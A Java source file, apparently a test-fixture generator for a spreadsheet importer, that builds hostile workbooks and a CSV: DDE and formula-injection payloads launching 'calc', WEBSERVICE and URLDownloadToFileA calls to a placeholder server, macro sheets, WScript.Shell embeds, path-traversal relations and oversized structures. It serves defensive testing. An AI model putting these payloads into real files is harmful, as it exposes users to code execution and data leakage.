package org.breachledger.hostile;

import static org.breachledger.hostile.BookParts.LOG;
import static org.breachledger.hostile.BookParts.MAIN;
import static org.breachledger.hostile.BookParts.RELS;
import static org.breachledger.hostile.BookParts.ROOT;
import static org.breachledger.hostile.BookParts.SHEET;
import static org.breachledger.hostile.BookParts.TYPES;
import static org.breachledger.hostile.BookParts.WORKBOOK;

import java.nio.charset.StandardCharsets;

/** Logs that point outside or carry programs; nobody may go there, none may run. */
final class HostileLinks {

  private static final String LINK = "xl/externalLinks/externalLink1.xml";
  private static final String LINK_RELATIONS = "xl/externalLinks/_rels/externalLink1.xml.rels";

  private HostileLinks() {}

  static void add(Catalogue all) {
    outside(all.kind("links to other files and servers"));
    orders(all.kind("formulas that reach outside"));
    programs(all.kind("macros and controls"));
    packages(all.kind("embedded files"));
    relations(all.kind("relations that lead astray"));
    structure(all.kind("workbooks without order"));
  }

  private static void outside(Catalogue all) {
    String server = all.server();
    String[] targets = {server + "other.xlsx", all.secret(), "file://///127.0.0.1/share/a.xlsx"};
    for (int i = 0; i < targets.length; i++) {
      all.book(
          "link-to-a-workbook-" + (i + 1) + ".xlsx",
          BookParts.good()
              .with(
                  LINK,
                  "<externalLink xmlns='"
                      + MAIN
                      + "'><externalBook><sheetNames><sheetName val='x'/></sheetNames>"
                      + "</externalBook></externalLink>")
              .with(LINK_RELATIONS, BookParts.relations("externalLinkPath", targets[i])));
    }
    all.book(
        "link-dde.xlsx",
        BookParts.good()
            .with(
                LINK,
                "<externalLink xmlns='"
                    + MAIN
                    + "'><ddeLink ddeService='cmd' ddeTopic='/c calc'><ddeItems><ddeItem name='A0'"
                    + " advise='1'/></ddeItems></ddeLink></externalLink>"));
    all.book(
        "link-ole.xlsx",
        BookParts.good()
            .with(
                LINK,
                "<externalLink xmlns='" + MAIN + "'><oleLink progId='Excel.Sheet'/></externalLink>")
            .with(LINK_RELATIONS, BookParts.relations("oleObject", server + "ole")));
    all.book(
        "pictures-and-pages.xlsx",
        BookParts.good()
            .with(
                "xl/worksheets/_rels/sheet1.xml.rels",
                BookParts.relations("hyperlink", server + "link", "image", server + "pixel")));
    all.book(
        "connections.xlsx",
        BookParts.good()
            .with(
                "xl/connections.xml",
                "<connections xmlns='"
                    + MAIN
                    + "'><connection id='1' refreshOnLoad='1'><webPr url='"
                    + server
                    + "query'/></connection><connection id='2'><dbPr connection='DRIVER=x;SERVER="
                    + "127.0.0.1'/></connection></connections>"));
    all.book(
        "template.xlsx",
        BookParts.good()
            .with(
                "docProps/app.xml",
                "<Properties><Template>" + server + "t.xltm</Template></Properties>"));
  }

  private static void orders(Catalogue all) {
    String server = all.server();
    String[] formulas = {
      "WEBSERVICE(\"" + server + "w\")",
      "HYPERLINK(\"" + server + "h\",\"x\")",
      "IMAGE(\"" + server + "i\")",
      "cmd|' /C calc'!A0",
      "RTD(\"x\",,\"y\")",
      "'" + all.secret() + "[a.xlsx]x'!A1",
      "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"" + server + "\",\"a\",0,0)"
    };
    for (int i = 0; i < formulas.length; i++) {
      String escaped = formulas[i].replace("\"", "&quot;").replace("'", "&apos;");
      all.book(
          "formula-" + (i + 1) + ".xlsx",
          BookParts.sheet(
              BookParts.cell("<c r='D2' t='str'><f>" + escaped + "</f><v>A bag</v></c>")));
    }
    all.text(
        "formula.csv",
        "Incident ref,School,Date of incident,Description\n7,Elm School,2024-01-04,\"=WEBSERVICE(\"\""
            + server
            + "csv\"\")\"\n8,=cmd|' /C calc'!A0,2024-01-04,@SUM(1+1)\n");
  }

  private static void programs(Catalogue all) {
    byte[] code = "Attribute VB_Name = \"x\"".getBytes(StandardCharsets.US_ASCII);
    all.book("macros.xlsm", BookParts.good().with("xl/vbaProject.bin", code));
    all.book("macros-hidden.xlsx", BookParts.good().with("xl/media/vbaProject.bin", code));
    all.book(
        "macro-sheet.xlsm",
        BookParts.good()
            .with(
                "xl/macrosheets/sheet2.xml",
                "<macrosheet><c><f>EXEC(&quot;calc&quot;)</f></c></macrosheet>")
            .with(
                RELS,
                BookParts.relations(
                    "worksheet",
                    "worksheets/sheet1.xml",
                    "xlMacrosheet",
                    "macrosheets/sheet2.xml")));
    all.book(
        "only-a-macro-sheet.xlsm",
        BookParts.good()
            .with("xl/macrosheets/sheet1.xml", "<macrosheet/>")
            .with(RELS, BookParts.relations("xlMacrosheet", "macrosheets/sheet1.xml")));
    all.book(
        "control.xlsx",
        BookParts.good()
            .with(
                "xl/activeX/activeX1.xml",
                "<ocx classid='{8856F961-340A-11D0-A96B-00C04FD705A2}'/>")
            .with("xl/activeX/activeX1.bin", code));
    all.book(
        "ribbon.xlsx",
        BookParts.good()
            .with("customUI/customUI.xml", "<customUI onLoad='x'/>")
            .with(
                ROOT,
                BookParts.relations(
                    "officeDocument",
                    "xl/workbook.xml",
                    "extensibility",
                    "customUI/customUI.xml")));
    all.book("web-extension.xlsx", BookParts.good().with("xl/webextensions/taskpanes.xml", "<x/>"));
  }

  private static void packages(Catalogue all) {
    byte[] program = "MZ\0\0This program cannot be run".getBytes(StandardCharsets.US_ASCII);
    all.book(
        "embedded-program.xlsx", BookParts.good().with("xl/embeddings/oleObject1.bin", program));
    all.book(
        "embedded-workbook.xlsx",
        BookParts.good().with("xl/embeddings/book1.xlsx", BookParts.good().zip().bytes()));
    all.book(
        "embedded-script.xlsx",
        BookParts.good().with("xl/embeddings/run.js", "new ActiveXObject('WScript.Shell')"));
  }

  private static void relations(Catalogue all) {
    String[] targets = {
      all.server() + "sheet.xml",
      all.secret(),
      "../../secret.txt",
      "workbook.xml",
      "_rels/workbook.xml.rels",
      "../[Content_Types].xml",
      "worksheets/none.xml",
      "",
      "%77orksheets/sheet1.xml",
      "worksheets\\sheet1.xml",
      "//127.0.0.1/share/sheet1.xml",
      "worksheets/sheet1.xml#a?b"
    };
    for (int i = 0; i < targets.length; i++) {
      all.book(
          "sheet-elsewhere-" + (i + 1) + ".xlsx",
          BookParts.good().with(RELS, BookParts.relations("worksheet", targets[i])));
    }
    all.book(
        "workbook-elsewhere.xlsx",
        BookParts.good().with(ROOT, BookParts.relations("officeDocument", all.server() + "book")));
    all.book(
        "strings-elsewhere.xlsx",
        BookParts.good()
            .with(
                RELS,
                BookParts.relations(
                    "worksheet", "worksheets/sheet1.xml", "sharedStrings", all.secret())));
    StringBuilder many = new StringBuilder("<Relationships xmlns='" + BookParts.PACKAGE);
    many.append("relationships'>");
    for (int i = 0; i < 100_000; i++) {
      many.append("<Relationship Id='rId").append(i).append("' Type='").append(BookParts.RELATIONS);
      many.append("/worksheet' Target='worksheets/sheet1.xml'/>");
    }
    all.book("many-relations.xlsx", BookParts.good().with(RELS, many + "</Relationships>"));
    all.book("no-relations.xlsx", BookParts.good().without(RELS));
    all.book("no-root.xlsx", BookParts.good().without(ROOT));
    all.book("no-types.xlsx", BookParts.good().without(TYPES));
    all.book("no-sheet.xlsx", BookParts.good().without(SHEET));
    all.book("no-workbook.xlsx", BookParts.good().without(WORKBOOK));
  }

  private static void structure(Catalogue all) {
    String head = "<workbook xmlns='" + MAIN + "' xmlns:r='" + BookParts.RELATIONS + "'><sheets>";
    String sheet = "<sheet name='Log' sheetId='1' r:id='rId0'/>";
    String end = "</sheets></workbook>";
    StringBuilder many = new StringBuilder(head);
    for (int i = 0; i < 20_000; i++) {
      many.append("<sheet name='Log").append(i).append("' sheetId='").append(i + 1);
      many.append("' r:id='rId0'/>");
    }
    all.book("no-sheets.xlsx", BookParts.good().with(WORKBOOK, head + end));
    all.book("twenty-thousand-sheets.xlsx", BookParts.good().with(WORKBOOK, many + end));
    String[] names = {"", "n".repeat(100_000), "=1+1", "&#10;&#9;x", "&lt;script&gt;", "..\\..\\x"};
    for (int i = 0; i < names.length; i++) {
      all.book(
          "sheet-name-" + (i + 1) + ".xlsx",
          BookParts.good()
              .with(WORKBOOK, head + sheet.replace("name='Log'", "name='" + names[i] + "'") + end));
    }
    all.book(
        "no-such-relation.xlsx",
        BookParts.good().with(WORKBOOK, head + sheet.replace("rId0", "rId99") + end));
    all.book(
        "no-name.xlsx",
        BookParts.good().with(WORKBOOK, head + sheet.replace("name='Log'", "") + end));
    all.book(
        "number-of-a-sheet.xlsx",
        BookParts.good()
            .with(WORKBOOK, head + sheet.replace("sheetId='1'", "sheetId='99999999999'") + end));
    StringBuilder defined = new StringBuilder(head + sheet + "</sheets><definedNames>");
    for (int i = 0; i < 100_000; i++) {
      defined.append("<definedName name='n").append(i).append("' hidden='1'>#REF!</definedName>");
    }
    all.book(
        "many-names.xlsx", BookParts.good().with(WORKBOOK, defined + "</definedNames></workbook>"));
    all.book("other-log-beside.xlsx", BookParts.good().with("xl/worksheets/sheet2.xml", LOG));
  }
}
